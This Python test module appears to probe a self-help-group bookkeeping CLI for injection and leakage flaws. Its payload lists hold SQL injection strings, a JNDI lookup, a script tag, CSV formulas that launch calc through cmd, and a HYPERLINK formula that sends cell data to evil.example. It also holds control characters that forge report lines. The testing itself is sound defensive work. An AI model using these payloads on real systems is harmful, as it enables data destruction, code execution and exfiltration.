"""Category 5: injection and leakage.

Six kinds of attempt, each counted once:

A. SQL-ish and template strings as names and descriptions (SQLite and PostgreSQL): stored
   literally, the books intact, and HTML reports escaping them.
B. Spreadsheet formulas (`=`, `+`, `-`, `@` at a cell's start) in names, descriptions, reasons
   and bank narrations, then every CSV export: a cell that starts a formula is a problem (what
   spreadsheets execute; OWASP "CSV injection").
C. Line breaks, control and bidirectional characters in every name and description (commands,
   the roster import, a bank narration): refused, or unable to forge a line in any text report or
   journal export.
D. `--output` (and `verify --anchor`) pointed at the books, their -wal/-shm, links to them, a
   FIFO, /dev/stdout, /dev/null, /dev/full, a directory, a dangling link: docs/cli.md's table.
E. A password in `--db-url`, in many spellings, with and without --verbose: never printed.
F. Account numbers and members' names in pseudonymized exports, passbooks and donor reports.

Columns: refused cleanly = the input was refused with a clean message; accepted = accepted and
nothing unsafe came out.
"""
import csv
import io
import os
import re
import shutil
import stat
import subprocess
import uuid

from bases import GROUP
from common import CLEAN_CODES, Tally, copy_db, log, settle, short, sqlite_digest, sql

SECRET = "S3cr3tPW"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"^[-+]?[\d,]*\.?\d+%?$")
BAD_CHARS = re.compile("[\x00-\x08\x0b-\x1f\x7f\x85\u2028\u2029\u202a-\u202e\u2066-\u2069\u200e\u200f]")


class Part:
    """One kind of attempt, run in one folder on one copy of the books."""

    def __init__(self, ctx, tally, name, base="full"):
        self.ctx, self.shg, self.tally = ctx, ctx.shg, tally
        self.dir = os.path.join(ctx.work, "cat5", name)
        shutil.rmtree(self.dir, ignore_errors=True)
        os.makedirs(self.dir)
        self.db = os.path.join(self.dir, "books.db")
        self.base = ctx.bases.paths[base]
        copy_db(self.base, self.db)
        self.setup = f"cp {self.base} books.db"

    def run(self, args, db=True, **kw):
        return self.shg.run(list(args) + (["--db", "books.db"] if db else []), cwd=self.dir, **kw)

    def repro(self, args, db=True, setup=None):
        return self.shg.repro(list(args) + (["--db", "books.db"] if db else []), cwd=self.dir,
                              setup=setup or self.setup)

    def unclean(self, r):
        """Why a command's outcome is unclean (exit 70, a trace), or None."""
        if r.rc not in CLEAN_CODES:
            return f"exit {r.rc}: {short(r.first_err(), 80)}"
        t = r.trace()
        return f"a stack trace or exception name: {short(t, 80)}" if t else None

    def books_ok(self):
        """None if shg verify passes and the trial balance balances, else why not."""
        from common import state
        s = state(self.shg, self.db, [GROUP], cwd=self.dir)
        if not s.verified():
            return "shg verify fails: " + short(s.verify, 80)
        if s.unbalanced():
            return "the trial balance does not balance"
        return None


# ---------------------------------------------------------------------------------------------
# A. SQL-ish strings

SQLISH = ["'; DROP TABLE journal_entry; --", "Robert'); DROP TABLE group_member;--",
          '" OR "1"="1', "%' OR 1=1 --", "$$; DROP SCHEMA public CASCADE; $$",
          "\\'; SELECT pg_sleep(10); --", "${jndi:ldap://127.0.0.1:1/a}", "{{7*7}} ${7*7}",
          "<script>alert(1)</script>", "%n%s%s%x"]


def part_sql(ctx, tally, quick):
    p = Part(ctx, tally, "A-sql")
    payloads = SQLISH[:4] + SQLISH[8:9] if quick else SQLISH
    entered = []
    for i, s in enumerate(payloads):
        for kind, args in [
                ("member add --name", ["member", "add", GROUP, f"X{i:02d}", "--name", s,
                                       "--joined", "2025-04-01"]),
                ("expense --description", ["expense", GROUP, "--amount", "1", "--description", s,
                                           "--date", "2025-04-02"])]:
            r = p.run(args)
            why = p.unclean(r)
            if why:
                tally.add(None, f"A {kind} {short(s, 30)!r}: {why}", p.repro(args))
            elif r.rc == 0:
                entered.append((kind, s, args))
                tally.add("accepted")
            else:
                tally.add("refused")
    # the books intact, the strings stored as they were typed, HTML escaping them
    why = p.books_ok()
    rc, tables = sql(p.db, "SELECT count(*) FROM sqlite_master WHERE type='table'")
    if why or tables != sql(p.base, "SELECT count(*) FROM sqlite_master WHERE type='table'")[1]:
        tally.problem(f"A: after the SQL-ish names the books are not intact: {why or tables}",
                      p.repro(["verify"]))
    listing = p.run(["member", "list", GROUP, "--format", "csv", "--as-of", "2025-04-30"])
    html = p.run(["statement", GROUP, "--names", "--format", "html", "--to", "2025-04-30"])
    acct = p.run(["account", GROUP, "5200", "--format", "csv", "--to", "2025-04-30"])
    for kind, s, args in entered:
        where = listing.out if kind.startswith("member") else acct.out
        if s not in where and s.replace('"', '""') not in where:
            tally.problem(f"A {kind} {short(s, 30)!r} was accepted but is not shown as typed",
                          p.repro(args))
    if "<script>" in html.out:
        tally.problem("A: a name <script>alert(1)</script> is written unescaped into the HTML "
                      "statement", p.repro(["statement", GROUP, "--names", "--format", "html",
                                            "--to", "2025-04-30"]))
    # the same on PostgreSQL, where a string spliced into SQL would run
    url = ctx.pg_url("inj") if ctx.pg_ok() else None
    if url is None:
        tally.note("A: PostgreSQL not reachable: the SQL-ish names were tried on SQLite only")
        return
    from bases import group_args
    r = ctx.shg.run(group_args(ctx.root) + ["--db-url", url], cwd=p.dir)
    if r.rc != 0:
        tally.problem(f"A: group create on PostgreSQL failed: {r.first_err()}")
        return
    for i, s in enumerate(payloads):
        args = ["member", "add", GROUP, f"X{i:02d}", "--name", s, "--joined", "2024-04-01",
                "--db-url", url]
        r = ctx.shg.run(args, cwd=p.dir)
        why = p.unclean(r)
        if why:
            tally.add(None, f"A PostgreSQL member add {short(s, 30)!r}: {why}",
                      ctx.shg.repro(args))
        else:
            tally.add("accepted" if r.rc == 0 else "refused")
    r = ctx.shg.run(["member", "list", GROUP, "--format", "csv", "--as-of", "2024-05-01",
                     "--db-url", url], cwd=p.dir)
    v = ctx.shg.run(["verify", "--db-url", url], cwd=p.dir)
    if v.rc != 0 or r.rc != 0 or any(s not in r.out and s.replace('"', '""') not in r.out
                                     for s in payloads):
        tally.problem("A: PostgreSQL books not intact, or a name not stored as typed, after the "
                      "SQL-ish names: " + short(v.out + r.err, 80), ctx.shg.repro(
                          ["member", "list", GROUP, "--format", "csv", "--db-url", url]))


# ---------------------------------------------------------------------------------------------
# B. Spreadsheet formulas in CSV exports

FORMULAS = ["=cmd|' /C calc'!A0", "+SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
            "\t=1+1"]


def formula_cells(text):
    """Cells of a CSV text that a spreadsheet would read as a formula."""
    bad = []
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            if cell.startswith(FORMULA_START) and not NUMBER.match(cell.strip()):
                bad.append(cell)
    return bad


def part_formulas(ctx, tally, quick):
    p = Part(ctx, tally, "B-formulas")
    formulas = FORMULAS[:3] if quick else FORMULAS
    entered = []  # (entry point, payload)
    for i, f in enumerate(formulas):
        attempts = [
            ("member add --name", ["member", "add", GROUP, f"F{i:02d}", "--name", f,
                                   "--joined", "2025-04-01"]),
            ("expense --description", ["expense", GROUP, "--amount", "1", "--description", f,
                                       "--date", "2025-04-02"]),
            ("fine --reason", ["fine", GROUP, "M01", "--amount", "1", "--reason", f,
                               "--date", "2025-04-03", "--id", f"FINE-F{i}"]),
        ]
        for kind, args in attempts:
            r = p.run(args)
            why = p.unclean(r)
            if why:
                tally.add(None, f"B {kind} {short(f, 30)!r}: {why}", p.repro(args))
            elif r.rc == 0:
                entered.append((kind, f, args))
            else:
                tally.add("refused")
    # a bank narration that starts a formula, through the passbook import
    pb = os.path.join(p.dir, "passbook.csv")
    lines = ["Date,Narration,Withdrawal,Deposit,Balance"]
    bal = 24912.90
    for i, f in enumerate(formulas):
        bal += 1
        lines.append(f'{10 + i:02d}/04/2025,"{f.replace(chr(34), chr(34) * 2)}",,1.00,{bal:.2f}')
    with open(pb, "w", encoding="utf-8") as fh:
        fh.write("\n".join(lines) + "\n")
    r = p.run(["import", "passbook", GROUP, "passbook.csv"])
    why = p.unclean(r)
    for f in formulas:
        if why:
            tally.add(None, f"B passbook narration {short(f, 30)!r}: {why}",
                      p.repro(["import", "passbook", GROUP, "passbook.csv"]))
        elif r.rc == 0:
            entered.append(("a passbook narration", f, ["import", "passbook", GROUP,
                                                        "passbook.csv"]))
        else:
            tally.add("refused")
    exports = [["export", GROUP, "--format", "gl-csv"],
               ["export", GROUP, "--format", "gl-csv", "--pseudonymize"],
               ["trial-balance", GROUP, "--members", "--format", "csv"],
               ["member", "list", GROUP, "--format", "csv", "--as-of", "2025-04-30"],
               ["statement", GROUP, "--names", "--format", "csv", "--to", "2025-04-30"],
               ["account", GROUP, "5200", "--format", "csv", "--to", "2025-04-30"],
               ["account", GROUP, "4100", "--format", "csv", "--to", "2025-04-30"],
               ["account", GROUP, "9999", "--format", "csv", "--to", "2025-04-30"],
               ["account", GROUP, "1100", "--format", "csv", "--to", "2025-04-30"]]
    found = {}  # payload -> [export names]
    for args in exports:
        r = p.run(args)
        if p.unclean(r):
            tally.problem(f"B {' '.join(args[:3])}: {p.unclean(r)}", p.repro(args))
            continue
        cells = formula_cells(r.out)
        for kind, f, _ in entered:
            marker = f.strip()[:12]
            if any(marker in c for c in cells):
                found.setdefault((kind, f), []).append(" ".join(a for a in args if a != GROUP))
    for kind, f, args in entered:
        where = found.get((kind, f))
        if where:
            tally.add(None, f"B {kind} {short(f, 34)!r} accepted, and written as a cell that "
                            f"starts a formula in: {'; '.join(where)}",
                      p.repro(args) + " && " + p.shg.repro(
                          ["export", GROUP, "--format", "gl-csv", "--db", "books.db"]).split(
                          " && ", 1)[-1])
        else:
            tally.add("accepted")
    why = p.books_ok()
    if why:
        tally.problem(f"B: after the formulas, {why}", p.repro(["verify"]))


# ---------------------------------------------------------------------------------------------
# C. Forged report lines

FORGERS = {
    "LF": "Asha\nM02      9,99,999.00", "CR": "Asha\rM02      9,99,999.00",
    "CRLF": "Asha\r\nM02      9,99,999.00", "VT": "Asha\x0bM02 9,99,999.00",
    "FF": "Asha\x0cM02 9,99,999.00", "NEL": "Asha\x85M02 9,99,999.00",
    "LSEP": "Asha\u2028M02 9,99,999.00", "PSEP": "Asha\u2029M02 9,99,999.00",
    "RLO": "Asha\u202e00.999,99,9 20M", "LRI": "Asha\u2066M02 9,99,999.00\u2069",
    "ESC": "Asha\x1b[2K\x1b[1AM02 9,99,999.00", "NUL": "Asha\x00M02 9,99,999.00",
}


def part_forgery(ctx, tally, quick):
    p = Part(ctx, tally, "C-forgery")
    forgers = dict(list(FORGERS.items())[:4]) if quick else FORGERS
    accepted = []
    n = 0
    for label, s in forgers.items():
        n += 1
        points = [
            ("member add --name", ["member", "add", GROUP, f"N{n:02d}", "--name", s,
                                   "--joined", "2025-04-01"]),
            ("group create --name", ["group", "create", f"G{n:02d}", "--name", s, "--formed",
                                     "2025-04-01", "--monthly-savings", "100"]),
            ("unit create --name", ["unit", "create", f"U{n:02d}", "--name", s]),
            ("expense --description", ["expense", GROUP, "--amount", "1", "--description", s,
                                       "--date", "2025-04-02"]),
            ("income --description", ["income", GROUP, "--amount", "1", "--description", s,
                                      "--date", "2025-04-02"]),
            ("fine --reason", ["fine", GROUP, "M01", "--amount", "1", "--reason", s, "--date",
                               "2025-04-03", "--id", f"FINE-N{n}"]),
            ("reverse --reason", ["reverse", GROUP, "MTG:2025-03-10:M01:SAVE", "--reason", s,
                                  "--id", f"REV-N{n}"]),
        ]
        if quick:
            points = points[:1] + points[3:4]
        if "\x00" in s:
            # no program can receive a NUL in its arguments (the kernel ends each at the first):
            # only the roster file below carries it
            points = []
        for kind, args in points:
            r = p.run(args)
            why = p.unclean(r)
            if why:
                tally.add(None, f"C {kind} with {label}: {why}", p.repro(args))
            elif r.rc == 0:
                accepted.append((kind, label, args))
            else:
                tally.add("refused")
        # the roster import's name cell
        roster = os.path.join(p.dir, f"roster-{label}.csv")
        with open(roster, "w", encoding="utf-8", newline="") as fh:
            fh.write("member,name,category,joined\n")
            fh.write(f'R{n:02d},"{s}",adult-woman,2025-04-01\n')
        args = ["import", "members", GROUP, os.path.basename(roster)]
        r = p.run(args)
        why = p.unclean(r)
        if why:
            tally.add(None, f"C roster import name with {label}: {why}", p.repro(args))
        elif r.rc == 0:
            accepted.append(("roster name", label, args))
        else:
            tally.add("refused")
    # a bank narration with each, one line a day after the seed's year
    lines = ["Date,Narration,Withdrawal,Deposit,Balance"]
    bal = 24912.90
    for i, (label, s) in enumerate(forgers.items()):
        bal += 1
        lines.append(f'{1 + i:02d}/05/2025,"CREDIT {s}",,1.00,{bal:.2f}')
    with open(os.path.join(p.dir, "passbook.csv"), "w", encoding="utf-8", newline="") as fh:
        fh.write("\n".join(lines) + "\n")
    args = ["import", "passbook", GROUP, "passbook.csv"]
    r = p.run(args)
    why = p.unclean(r)
    for label in forgers:
        if why:
            tally.add(None, f"C passbook narration with {label}: {why}", p.repro(args))
        elif r.rc == 0:
            accepted.append(("a passbook narration", label, args))
        else:
            tally.add("refused")
    # every text report and journal export: no forged line, no control or bidi character
    reports = [["statement", GROUP, "--names", "--to", "2025-05-31"],
               ["member", "list", GROUP, "--as-of", "2025-05-31"],
               ["group", "list"], ["unit", "list"],
               ["account", GROUP, "5200", "--to", "2025-05-31"],
               ["account", GROUP, "4300", "--to", "2025-05-31"],
               ["account", GROUP, "4100", "--to", "2025-05-31"],
               ["account", GROUP, "1100", "--to", "2025-05-31"],
               ["account", GROUP, "9999", "--to", "2025-05-31"],
               ["trial-balance", GROUP, "--members"],
               ["export", GROUP, "--format", "hledger"],
               ["export", GROUP, "--format", "ledger"],
               ["export", GROUP, "--format", "gl-csv"]]
    forged = {}
    for args in reports:
        r = p.run(args)
        if p.unclean(r):
            tally.problem(f"C shg {' '.join(args[:2])}: {p.unclean(r)}", p.repro(args))
            continue
        text = r.out
        lines_out = text.split("\n")
        fake = [l for l in lines_out if re.match(r"^\s*M02\s+9,99,999\.00", l)
                or re.match(r"^\s*M02 9,99,999\.00", l)]
        bad = BAD_CHARS.findall(text)
        if args[-1] == "gl-csv":
            # CSV may quote a line break inside a cell; only characters outside quotes forge
            fake = []
        if fake or bad:
            forged[" ".join(args[:3])] = (fake[:1], sorted(set(bad)))
    for kind, label, args in accepted:
        if forged:
            where = "; ".join(f"{k}: " + (f"forged line {short(v[0][0], 30)!r}" if v[0] else "") +
                              (f" raw {','.join(repr(c) for c in v[1])}" if v[1] else "")
                              for k, v in forged.items())
            tally.add(None, f"C {kind} with {label} accepted, and the reports carry it: "
                            f"{short(where, 160)}", p.repro(args))
        else:
            tally.add("accepted")
    why = p.books_ok()
    if why:
        tally.problem(f"C: after the forgeries, {why}", p.repro(["verify"]))


# ---------------------------------------------------------------------------------------------
# D. --output targets

def part_output(ctx, tally, quick):
    p = Part(ctx, tally, "D-output")
    settle(p.db)
    digest = sqlite_digest(p.db)
    d = p.dir
    os.symlink("books.db", os.path.join(d, "link.db"))
    os.link(p.db, os.path.join(d, "hard.db"))
    os.symlink("nowhere.csv", os.path.join(d, "dangling.csv"))
    os.mkdir(os.path.join(d, "adir"))
    with open(os.path.join(d, "old.csv"), "w") as fh:
        fh.write("old\n")
    os.symlink("old.csv", os.path.join(d, "link-to-file.csv"))
    fifo = os.path.join(d, "fifo")
    os.mkfifo(fifo)
    tb = ["trial-balance", GROUP, "--format", "csv"]
    cases = [  # (what, --output value, expected exit, check after)
        ("the books", "books.db", 5, None),
        ("the books by ./ and ..", "../D-output/./books.db", 5, None),
        ("the books' -wal", "books.db-wal", 5, None),
        ("the books' -shm", "books.db-shm", 5, None),
        ("the books' -journal", "books.db-journal", 5, None),
        ("a symbolic link to the books", "link.db", 5, None),
        ("a hard link to the books", "hard.db", 5, None),
        ("a directory", "adir", 5, lambda: os.path.isdir(os.path.join(d, "adir"))),
        ("a dangling symbolic link", "dangling.csv", 5,
         lambda: os.path.islink(os.path.join(d, "dangling.csv"))),
        ("a file in a directory that does not exist", "nodir/x.csv", 5, None),
        ("a symbolic link to a file", "link-to-file.csv", 0,
         lambda: os.path.islink(os.path.join(d, "link-to-file.csv")) and
         open(os.path.join(d, "old.csv")).read().startswith("code,")),
        ("/dev/null", "/dev/null", 0, lambda: stat.S_ISCHR(os.stat("/dev/null").st_mode)),
        ("/dev/full", "/dev/full", 5, lambda: stat.S_ISCHR(os.stat("/dev/full").st_mode)),
        ("/dev/stdout", "/dev/stdout", 0, lambda: os.path.islink("/dev/stdout") or
         stat.S_ISCHR(os.stat("/dev/stdout").st_mode)),
        ("a FIFO with a reader", "fifo", 0, lambda: stat.S_ISFIFO(os.stat(fifo).st_mode)),
        ("a new file", "new.csv", 0, lambda: open(os.path.join(d, "new.csv")).read().startswith(
            "code,")),
    ]
    if quick:
        cases = cases[:1] + cases[5:7] + cases[11:15]
    for what, target, want, check in cases:
        reader = None
        if target == "fifo":
            reader = subprocess.Popen(["timeout", "120", "cat", fifo], stdout=subprocess.PIPE)
        args = tb + ["--output", target]
        r = p.run(args, timeout=180)
        got_fifo = reader.communicate()[0].decode() if reader else ""
        problems = []
        why = p.unclean(r)
        if why:
            problems.append(why)
        if r.rc != want:
            problems.append(f"exit {r.rc} where docs/cli.md says {want}: "
                            f"{short(r.first_err() or r.out, 70)}")
        if check and not check():
            problems.append("the target is not as it should be afterwards")
        if target == "fifo" and r.rc == 0 and not got_fifo.startswith("code,"):
            problems.append("nothing came out of the FIFO")
        if target == "/dev/stdout" and r.rc == 0 and "code,account" not in r.out:
            problems.append("nothing came out on standard output")
        if sqlite_digest(p.db) != digest:
            problems.append("THE BOOKS CHANGED")
        if problems:
            tally.add(None, f"D --output {what}: " + "; ".join(problems), p.repro(args))
        else:
            tally.add("refused" if want != 0 else "accepted")
    anchors = [("the books", "books.db"), ("a symbolic link to the books", "link.db"),
               ("a hard link to the books", "hard.db"), ("the books' -wal", "books.db-wal")]
    for what, target in anchors[:2] if quick else anchors:
        args = ["verify", GROUP, "--anchor", target]
        r = p.run(args)
        problems = [x for x in [p.unclean(r)] if x]
        if r.rc == 0:
            problems.append("accepted: the anchor would be appended to the books")
        if sqlite_digest(p.db) != digest:
            problems.append("THE BOOKS CHANGED")
        if problems:
            tally.add(None, f"D verify --anchor {what}: " + "; ".join(problems), p.repro(args))
        else:
            tally.add("refused")
    v = p.run(["verify"])
    if v.rc != 0:
        tally.problem("D: after the --output attempts the books do not verify: " + v.out,
                      p.repro(["verify"]))


# ---------------------------------------------------------------------------------------------
# E. Passwords in --db-url

def db_urls():
    s = SECRET
    return [
        f"jdbc:postgresql://postgres:{s}@127.0.0.1:1/x",
        f"jdbc:postgresql://postgres:{s}@127.0.0.1:5432/adv_no_such_db",
        f"jdbc:postgresql://127.0.0.1:5432/adv_no_such_db?user=postgres&password={s}",
        f"jdbc:postgresql://127.0.0.1:5432/adv_no_such_db?password={s}&user=postgres",
        f"jdbc:postgresql://127.0.0.1:5432/adv_no_such_db?user=postgres&PASSWORD={s}",
        f"jdbc:postgresql://127.0.0.1:5432/adv_no_such_db?user=postgres&Password={s}&ssl=true",
        f"jdbc:postgresql://postgres:S3cr%33tPW@127.0.0.1:1/x",
        f"jdbc:postgresql://nohost.invalid/x?user=u&password={s}",
        f"jdbc:postgresql://postgres:{s}@127.0.0.1:notaport/x",
        f"jdbc:postgresql://postgres:{s}@[::1:5432/x",
        f"jdbc:mysql://u:{s}@127.0.0.1/x",
        f"postgresql://u:{s}@127.0.0.1/x",
        f"jdbc:postgresql://127.0.0.1:5432/test?user=postgres&sslpassword={s}&sslmode=require",
        f"jdbc:postgresql://127.0.0.1:5432/adv_no_such_db?user=postgres&password={s}"
        f"&options=-c%20statement_timeout%3D1",
        f"jdbc:postgresql://127.0.0.1:5432/adv_no_such_db;password={s}",
        f"jdbc:postgresql://u:{s}:extra@127.0.0.1:1/x",
    ]


def part_passwords(ctx, tally, quick):
    p = Part(ctx, tally, "E-passwords")
    urls = db_urls()
    if quick:
        urls = urls[:3] + urls[6:8]
    forms = [SECRET.lower(), "s3cr%33tpw"]
    for url in urls:
        for args in (["verify", "--db-url", url], ["trial-balance", GROUP, "--verbose",
                                                   "--db-url", url]):
            r = p.run(args, db=False, timeout=120)
            shown = [f for f in forms if f in (r.out + r.err).lower()]
            problems = []
            if shown:
                problems.append(f"the password is printed: {short(r.first_err(), 100)}")
            if r.rc not in CLEAN_CODES:
                problems.append(f"exit {r.rc}")
            if r.trace() and "--verbose" not in args:
                problems.append(f"a stack trace without --verbose: {short(r.trace(), 60)}")
            if problems:
                tally.add(None, f"E {short(url, 60)}: " + "; ".join(problems),
                          p.repro(args, db=False, setup=""))
            else:
                tally.add("refused" if r.rc != 0 else "accepted")
    # both --db and --db-url: a usage error that must not echo the URL's password either
    args = ["verify", "--db", "books.db", "--db-url", urls[0]]
    r = p.run(args, db=False)
    if SECRET.lower() in (r.out + r.err).lower():
        tally.add(None, "E --db with --db-url: the password is printed", p.repro(args, db=False))
    else:
        tally.add("refused" if r.rc else "accepted")


# ---------------------------------------------------------------------------------------------
# F. Leakage in pseudonymized exports and donor reports

def roster(root):
    rows = list(csv.DictReader(open(os.path.join(root, "seeds", "shg01-roshni", "members.csv"),
                                    encoding="utf-8")))
    return rows


def part_leakage(ctx, tally, quick):
    p = Part(ctx, tally, "F-leakage")
    members = roster(ctx.root)
    accounts = [m["bank_account"] for m in members if m["bank_account"]]
    # narrations as banks write them: an account number and a name, in several spellings
    narrations = [f"UPI/{accounts[0]}/SUNITA DEVI/SAVINGS",
                  f"NEFT CR a/c {accounts[1]} RINKU DEVI",
                  "IMPS SUNITADEVI SAVING", "BY TRANSFER rinku  devi", f"CHQ DEP {accounts[2]}",
                  "NEFT-KHUSHBOO KUMARI-SCHOOL FEES"]
    lines = ["Date,Narration,Withdrawal,Deposit,Balance"]
    bal = 24912.90
    for i, n in enumerate(narrations):
        bal += 10
        lines.append(f"{1 + i:02d}/06/2025,{n},,10.00,{bal:.2f}")
    with open(os.path.join(p.dir, "passbook.csv"), "w", encoding="utf-8") as fh:
        fh.write("\n".join(lines) + "\n")
    r = p.run(["import", "passbook", GROUP, "passbook.csv"])
    if r.rc != 0:
        tally.problem(f"F: the passbook with names in narrations was refused: {r.first_err()}",
                      p.repro(["import", "passbook", GROUP, "passbook.csv"]))
    names = [m["name"] for m in members]
    words = sorted({w for n in names for w in n.split() if len(w) >= 3 and w != "Devi"
                    and w != "Kumari"})
    ids = [m["member"] for m in members]

    def leaks(text, pseudonymized):
        found = []
        # a bank line's id is a hexadecimal hash, no account number (docs/privacy.md): not scanned
        digits = [m for m in re.findall(r"\d{9,18}", re.sub(r"\b[0-9a-f]{32,}\b", "", text))]
        full = [a for a in accounts if a in text]
        if full:
            found.append(f"full account number {full[0]}")
        elif digits:
            found.append(f"a run of {len(digits[0])} digits ({digits[0][:3]}…)")
        squashed = re.sub(r"\s+", "", text).lower()
        for n in names:
            if n.lower() in text.lower() or n.replace(" ", "").lower() in squashed:
                found.append(f"the name {n}")
                break
        else:
            w = [w for w in words if re.search(r"\b" + w + r"\b", text, re.I)]
            if w:
                found.append(f"the name word {w[0]}")
        if pseudonymized:
            i = [m for m in ids if re.search(r"(?<![\w-])" + m + r"(?![\w-])", text)]
            if i:
                found.append(f"the member id {i[0]}")
        return found

    outputs = [
        (["export", GROUP, "--format", "gl-csv", "--pseudonymize"], True),
        (["trial-balance", GROUP, "--members", "--pseudonymize", "--format", "csv"], True),
        (["passbook", GROUP, "M01", "--pseudonymize"], True),
        (["passbook", GROUP, "M02", "--pseudonymize", "--format", "csv"], True),
        (["statement", GROUP, "--to", "2025-06-30"], False),
        (["statement", GROUP, "--to", "2025-06-30", "--format", "json"], False),
        (["indicators", "--groups", GROUP, "--as-of", "2025-06-30"], False),
        (["indicators", "--groups", GROUP, "--as-of", "2025-06-30", "--format", "csv"], False),
        (["indicators", "--groups", GROUP, "--as-of", "2025-06-30", "--format", "json"], False),
        (["grade", GROUP, "--to", "2025-06-30", "--format", "csv"], False),
    ]
    if quick:
        outputs = outputs[:3] + outputs[6:7]
    for args, pseudo in outputs:
        r = p.run(args)
        why = p.unclean(r)
        if why or r.rc != 0:
            tally.add(None, f"F shg {' '.join(args[:4])}: {why or r.first_err()}", p.repro(args))
            continue
        found = leaks(r.out, pseudo)
        what = ("pseudonymized " if pseudo else "") + " ".join(a for a in args if a != GROUP)
        if found:
            tally.add(None, f"F {short(what, 60)} shows " + ", ".join(found), p.repro(args))
        else:
            tally.add("accepted")


# ---------------------------------------------------------------------------------------------

def run(ctx, quick=False):
    tally = Tally(5, "Injection and leakage")
    top = os.path.join(ctx.work, "cat5")
    shutil.rmtree(top, ignore_errors=True)
    os.makedirs(top)
    parts = [part_sql, part_formulas, part_forgery, part_output, part_passwords, part_leakage]
    from common import parallel

    def one(fn):
        log(f"category 5: {fn.__name__}")
        fn(ctx, tally, quick)
    parallel(one, parts, ctx.jobs)
    return tally
